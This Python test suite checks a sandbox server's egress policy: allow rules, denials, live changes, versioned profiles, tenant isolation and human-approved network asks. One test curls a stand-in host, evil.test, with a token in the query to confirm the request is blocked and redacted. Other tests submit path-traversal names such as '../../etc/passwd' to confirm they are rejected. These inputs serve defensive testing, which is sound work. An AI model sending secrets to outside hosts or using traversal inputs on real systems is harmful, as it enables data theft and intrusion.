# SPDX-License-Identifier: Apache-2.0
"""What sandboxes of a server may reach: profiles, live changes, refusals, asks, restarts.

One HTTP server and one name server, both on loopback; the name server says that all of *.up.test is
there, and a rule for 127.0.0.0/8 lets names lead to it. tests/egress has the large world.
"""
import http.server
import json
import os
import signal
import socket
import struct
import threading
import time

import pytest

from test_v1 import V1


class Upstream(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    seen = []

    def do_GET(self):
        Upstream.seen.append((self.command, self.headers.get("Host"), self.path))
        if self.path == "/slow":
            self.send_response(200)
            self.send_header("Content-Length", "1000000")
            self.end_headers()
            try:
                for _ in range(1000):
                    self.wfile.write(b"x" * 100)
                    self.wfile.flush()
                    time.sleep(0.05)
            except OSError:
                pass
            return
        body = b"hello from upstream\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *_):
        pass


class Names(threading.Thread):
    """Answers A of every name below up.test with 127.0.0.1, everything else with "no such name"."""

    def __init__(self):
        super().__init__(daemon=True)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.port, self.asked = self.sock.getsockname()[1], []

    def run(self):
        while True:
            packet, peer = self.sock.recvfrom(2048)
            labels, at = [], 12
            while packet[at]:
                labels.append(packet[at + 1:at + 1 + packet[at]].decode())
                at += 1 + packet[at]
            kind = struct.unpack(">H", packet[at + 1:at + 3])[0]
            name = ".".join(labels).lower()
            self.asked.append(name)
            is_ours = name.endswith("up.test")
            answers = 1 if is_ours and kind == 1 else 0
            head = packet[:2] + struct.pack(">HHHHH", 0x8180 if is_ours else 0x8183, 1, answers, 0, 0)
            record = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 5, 4) + socket.inet_aton("127.0.0.1")
            self.sock.sendto(head + packet[12:at + 5] + (record if answers else b""), peer)


@pytest.fixture(scope="module")
def names():
    one = Names()
    one.start()
    return one


@pytest.fixture(scope="module")
def upstream():
    served = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Upstream)
    threading.Thread(target=served.serve_forever, daemon=True).start()
    yield served.server_address[1]
    served.shutdown()


@pytest.fixture(scope="module")
def road(mode, names):
    from server import Server
    with Server(mode=mode, options=("--resolver", f"127.0.0.1:{names.port}")) as running:
        yield running
        assert not running.crashes()


@pytest.fixture
def v1(road):
    return V1(road)


@pytest.fixture
def make(v1):
    made = []

    def create(**body):
        one = v1("POST", "/sandboxes", body, status=201)
        made.append(one["id"])
        return one["id"]

    yield create
    for one in made:
        v1("DELETE", f"/sandboxes/{one}")


def sh(v1, box, command, timeout=30):
    return v1("POST", f"/sandboxes/{box}/exec", {"argv": ["sh", "-c", command]}, status=200,
              timeout=timeout)


def wait_for(is_true, seconds=10):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        found = is_true()
        if found:
            return found
        time.sleep(0.05)
    raise AssertionError("it did not come")


def open_to(upstream):
    return {"allow": [f"*.up.test:{upstream}", f"127.0.0.0/8:{upstream}"]}


def fetch(upstream, name="a.up.test", path="/"):
    return f"curl -sS -m 10 http://{name}:{upstream}{path}"


def test_a_sandbox_reaches_what_it_was_given_and_nothing_else(v1, make, upstream, names):
    box = make(network=open_to(upstream))
    assert sh(v1, box, fetch(upstream))["stdout"] == "hello from upstream\n"
    # The same without the variables: any program takes the road.
    assert sh(v1, box, "env -u http_proxy -u HTTP_PROXY " + fetch(upstream))["stdout"] \
        == "hello from upstream\n"
    refused = sh(v1, box, fetch(upstream, "other.test"))
    answer = json.loads(refused["stdout"])["error"]
    assert (answer["code"], answer["kind"], answer["host"]) == ("egress_denied", "no_rule", "other.test")
    assert "other.test" not in names.asked


def test_the_default_is_locked(v1, make, upstream):
    box = make()
    assert v1("GET", f"/sandboxes/{box}")["profile"] == "locked"
    assert "egress_denied" in sh(v1, box, fetch(upstream))["stdout"]
    assert v1("GET", f"/sandboxes/{box}/network")["policy"].get("rules", []) == []


def test_refusals_are_in_the_result_the_list_and_the_events(v1, make, upstream):
    box = make()
    done = sh(v1, box, fetch(upstream, "evil.test", "/secret?token=abc"))
    mine = [v for v in done["violations"] if v.get("path") == "/secret"]
    assert mine and mine[0]["host"] == "evil.test" and mine[0]["wall"] == "network"
    assert "abc" not in json.dumps(done["violations"])
    listed = v1("GET", f"/sandboxes/{box}/violations", status=200)["violations"]
    assert any(v["host"] == "evil.test" and v["kind"] == "no_rule" and v["count"] >= 1 for v in listed)
    clean = sh(v1, box, "true")
    assert "violations" not in clean
    kept = v1("GET", f"/sandboxes/{box}/exec/{done['id']}")
    assert any(v["host"] == "evil.test" for v in kept["violations"])
    events = wait_for(lambda: [e for e in v1("GET", f"/sandboxes/{box}/logs")["events"]
                               if e["action"] == "network.denied"])
    assert events[0]["detail"]["host"] == "evil.test"


def test_many_refusals_are_few_events(v1, make):
    box = make()
    sh(v1, box, "for i in $(seq 300); do curl -s -m 5 http://n$((i % 100)).evil.test/ >/dev/null; done",
       timeout=120)
    events = [e for e in v1("GET", f"/sandboxes/{box}/logs?limit=1000")["events"]
              if e["action"] == "network.denied"]
    assert 0 < len(events) <= 60
    listed = v1("GET", f"/sandboxes/{box}/violations")["violations"]
    assert 100 <= len(listed) <= 256


def test_a_change_is_live_and_cuts(v1, make, upstream):
    box = make(network=open_to(upstream))
    started = v1("POST", f"/sandboxes/{box}/exec",
                 {"argv": ["sh", "-c", fetch(upstream, path="/slow") + " | wc -c"],
                  "background": True}, status=201)
    wait_for(lambda: ("GET", f"a.up.test:{upstream}", "/slow") in Upstream.seen)
    changed = v1("PATCH", f"/sandboxes/{box}/network", {"network": {}}, status=200)
    assert changed["policy"].get("rules", []) == []
    end = wait_for(lambda: (lambda e: e if e["state"] == "exited" else None)(
        v1("GET", f"/sandboxes/{box}/exec/{started['id']}")), 5)
    assert end["exit_code"] == 0  # of wc; curl was cut long before its 50 seconds
    assert "egress_denied" in sh(v1, box, fetch(upstream))["stdout"]
    v1("PATCH", f"/sandboxes/{box}/network", {"network": open_to(upstream)}, status=200)
    assert sh(v1, box, fetch(upstream))["stdout"] == "hello from upstream\n"
    actions = [e["action"] for e in v1("GET", f"/sandboxes/{box}/logs")["events"]]
    assert actions.count("network.updated") == 2


def test_the_e2b_fields_mean_the_same(road, v1, upstream):
    box = road.create(network={"allowOut": ["a.up.test", "127.0.0.1"], "denyOut": ["0.0.0.0/0"],
                               "httpsPorts": [upstream]})
    id_ = box["sandboxID"]
    assert road.run(box, "curl -sS -m 5 http://b.up.test:%d/" % upstream)[1].count(b"egress_denied")
    rules = v1("GET", f"/sandboxes/{id_}/network")["policy"]["rules"]
    assert any("a.up.test" in rule["hosts"] for rule in rules)
    assert road.request("PUT", f"/sandboxes/{id_}/network", {}).status == 204
    assert v1("GET", f"/sandboxes/{id_}/network")["policy"].get("rules", []) == []
    road.request("DELETE", f"/sandboxes/{id_}")


def test_profiles_are_versioned_and_chosen_by_name(v1, make, upstream):
    rules = [{"action": "allow", "hosts": ["a.up.test", "127.0.0.0/8"], "ports": [str(upstream)]}]
    one = v1("PUT", "/profiles/mine", {"policy": {"name": "mine", "rules": rules}}, status=200)
    assert one["version"] == 1
    box = make(profile="mine")
    assert sh(v1, box, fetch(upstream))["stdout"] == "hello from upstream\n"
    two = v1("PUT", "/profiles/mine", {"yaml": "network:\n  rules: []\n"}, status=200)
    assert two["version"] == 2 and two["digest"] != one["digest"]
    # A sandbox keeps what it was made with; a new one has the new version, or the one it names.
    assert sh(v1, box, fetch(upstream))["stdout"] == "hello from upstream\n"
    assert "egress_denied" in sh(v1, make(profile="mine"), fetch(upstream))["stdout"]
    assert "hello" in sh(v1, make(profile="mine@1"), fetch(upstream))["stdout"]
    assert v1("GET", "/profiles/packages", status=200)["owner"] == "server"
    v1.error("POST", "/sandboxes", 404, "not_found", {"profile": "nothing-of-the-kind"})
    for bad in ("../../etc/passwd", "/etc/passwd", "a.yaml"):
        v1.error("POST", "/sandboxes", 400, "invalid", {"profile": bad})
    v1.error("PUT", "/profiles/locked", 400, "invalid", {"policy": {}})


def test_another_tenant_sees_nothing_of_it(road, v1, make, upstream):
    other = V1(road, road.make_key("other"))
    box = make(network=open_to(upstream))
    v1("PUT", "/profiles/private", {"policy": {}}, status=200)
    for path in (f"/sandboxes/{box}/violations", f"/sandboxes/{box}/network",
                 f"/sandboxes/{box}/explain?network=a.up.test", "/profiles/private"):
        other.error("GET", path, 404, "not_found")
    other.error("PATCH", f"/sandboxes/{box}/network", 404, "sandbox_not_found", {"network": {}})
    other.error("POST", "/sandboxes", 404, "not_found", {"profile": "private"})
    assert other("GET", "/profiles")["profiles"] == []


def ask_profile(upstream):
    return {"policy": {"name": "asking", "ask_timeout_ms": 20000, "rules": [
        {"action": "ask", "hosts": ["*.up.test"], "ports": [str(upstream)], "reason": "say why"},
        {"action": "allow", "hosts": ["127.0.0.0/8"], "ports": [str(upstream)]}]}}


def start(v1, box, command):
    return v1("POST", f"/sandboxes/{box}/exec", {"argv": ["sh", "-c", command], "background": True},
              status=201)["id"]


def ended(v1, box, exec_id):
    def look():
        one = v1("GET", f"/sandboxes/{box}/exec/{exec_id}")
        return one if one["state"] == "exited" else None
    wait_for(look, 15)
    return v1("GET", f"/sandboxes/{box}/exec/{exec_id}/output")


def asks(v1, box):
    return [k for k in v1("GET", "/asks", status=200)["asks"] if k["sandbox_id"] == box]


def test_an_ask_waits_for_a_person(road, v1, make, upstream):
    v1("PUT", "/profiles/asking", ask_profile(upstream), status=200)
    box = make(profile="asking")
    running = start(v1, box, fetch(upstream))
    ask = wait_for(lambda: asks(v1, box))[0]
    assert ask["request"]["host"] == "a.up.test" and ask["state"] == "open"
    other = V1(road, road.make_key("other"))
    other.error("POST", f"/asks/{ask['id']}", 404, "not_found", {"verdict": "allow"})
    assert other("GET", "/asks")["asks"] == []
    v1.error("POST", f"/asks/{ask['id']}", 400, "invalid", {"verdict": "maybe"})
    said = v1("POST", f"/asks/{ask['id']}", {"verdict": "allow"}, status=200)
    assert said["state"] == "allowed" and said["scope"] == "once"
    assert "hello from upstream" in ended(v1, box, running)["stdout"]
    v1.error("POST", f"/asks/{ask['id']}", 409, "over", {"verdict": "allow"})
    # Once was once.
    running = start(v1, box, fetch(upstream))
    ask = wait_for(lambda: asks(v1, box))[0]
    v1("POST", f"/asks/{ask['id']}", {"verdict": "deny"}, status=200)
    assert '"kind":"ask"' in ended(v1, box, running)["stdout"]
    actions = [(e["action"], e["outcome"]) for e in v1("GET", f"/sandboxes/{box}/logs")["events"]]
    assert actions.count(("network.ask", "open")) == 2
    assert ("network.answer", "allowed") in actions and ("network.answer", "denied") in actions


def test_always_writes_a_new_version_of_the_profile(v1, make, upstream):
    v1("PUT", "/profiles/learning", ask_profile(upstream), status=200)
    box = make(profile="learning")
    running = start(v1, box, fetch(upstream))
    ask = wait_for(lambda: asks(v1, box))[0]
    v1("POST", f"/asks/{ask['id']}", {"verdict": "allow", "scope": "always"}, status=200)
    assert "hello" in ended(v1, box, running)["stdout"]
    assert sh(v1, box, fetch(upstream))["stdout"] == "hello from upstream\n"
    written = v1("GET", "/profiles/learning")
    assert written["version"] == 2
    assert any(r.get("approved") and r["hosts"] == ["a.up.test"] for r in written["policy"]["rules"])
    fresh = make(profile="learning")
    assert sh(v1, fresh, fetch(upstream))["stdout"] == "hello from upstream\n"


def test_an_ask_nobody_answers_is_a_denial(v1, make, upstream):
    body = ask_profile(upstream)
    body["policy"]["ask_timeout_ms"] = 1000
    v1("PUT", "/profiles/hasty", body, status=200)
    box = make(profile="hasty")
    assert '"kind":"ask"' in sh(v1, box, fetch(upstream))["stdout"]
    wait_for(lambda: [k for k in v1("GET", "/asks?state=expired")["asks"] if k["sandbox_id"] == box])


@pytest.mark.parametrize("role", ["egress", "api", "warden"])
def test_the_road_is_there_again_behind_a_killed_role(road, v1, make, upstream, role):
    box = make(network=open_to(upstream))
    assert "hello" in sh(v1, box, fetch(upstream))["stdout"]
    old = road.roles()[role]
    os.kill(old, signal.SIGKILL)
    wait_for(lambda: road.roles().get(role) not in (None, old))

    def works():
        try:
            done = sh(v1, box, fetch(upstream))
        except (OSError, AssertionError):
            return False
        return done["stdout"] == "hello from upstream\n"
    wait_for(works, 20)
    assert "egress_denied" in sh(v1, box, fetch(upstream, "other.test"))["stdout"]
    fresh = make(network=open_to(upstream))
    assert "hello" in sh(v1, fresh, fetch(upstream))["stdout"]


def test_explain_answers_without_trying(v1, make, upstream, names):
    box = make(network=open_to(upstream))
    before = len(names.asked)

    def ask(what):
        found = v1("GET", f"/sandboxes/{box}/explain?network={what}", status=200)["explanations"][0]
        return found["verdict"], found["network"]
    assert ask(f"http://never.up.test:{upstream}/x")[0] == "allowed"
    verdict, why = ask("POST%20https://example.org/x")
    assert verdict == "denied" and why["verdict"] == "deny"
    v1.error("GET", f"/sandboxes/{box}/explain?network=http://", 400, "invalid")
    assert len(names.asked) == before


def test_usage_is_counted_by_destination(road, v1, make, upstream):
    box = make(network=open_to(upstream))
    for _ in range(3):
        sh(v1, box, fetch(upstream))
    sh(v1, box, fetch(upstream, "no.test"))
    usage = {u["host"]: u for u in v1("GET", f"/sandboxes/{box}/network")["usage"]}
    assert usage["a.up.test"]["requests"] == 3 and usage["a.up.test"]["bytes_down"] > 0
    assert usage["no.test"]["denied"] >= 1 and usage["no.test"]["requests"] == 0
    text = road.request("GET", "/metrics").body.decode()
    assert "bawn_egress_up 1\n" in text
    assert 'bawn_egress_denied_total{kind="no_rule"}' in text


def test_the_command_line_says_the_same(road, v1, upstream):
    made = road.bawn("new", "--state", road.state, "--allow", f"*.up.test:{upstream}",
                     "--allow", f"127.0.0.0/8:{upstream}")
    assert made.returncode == 0, made.stderr
    box = made.stdout.strip()
    mine = V1(road, road.key)

    def why(*words):
        return road.bawn("explain", "--net", *words, "--sandbox", box, "--state", road.state)
    assert why(f"http://x.up.test:{upstream}/").returncode == 0
    no = why("POST", "https://example.org/")
    assert no.returncode == 1 and "no rule allows it" in no.stdout
    assert road.bawn("asks", "--state", road.state).returncode == 0
    bad = road.bawn("approve", "nothing", "--state", road.state)
    assert bad.returncode == 125 and "no ask 'nothing'" in bad.stderr
    profile = os.path.join(road.top, "cli.yaml")
    with open(profile, "w", encoding="ascii") as f:
        f.write(f"network:\n  rules:\n    - hosts: ['*.up.test']\n      ports: [{upstream}]\n"
                "      action: ask\n")
    os.chmod(profile, 0o644)
    put = road.bawn("profile", "put", "cli", profile, "--state", road.state)
    assert put.returncode == 0, put.stderr
    assert "cli" in road.bawn("profile", "ls", "--state", road.state).stdout
    got = json.loads(road.bawn("profile", "get", "cli@1", "--state", road.state).stdout)
    assert got["policy"]["rules"][0]["action"] == "ask"
    road.bawn("kill", box, "--state", road.state)
    assert mine("GET", "/asks", status=200)["asks"] == []
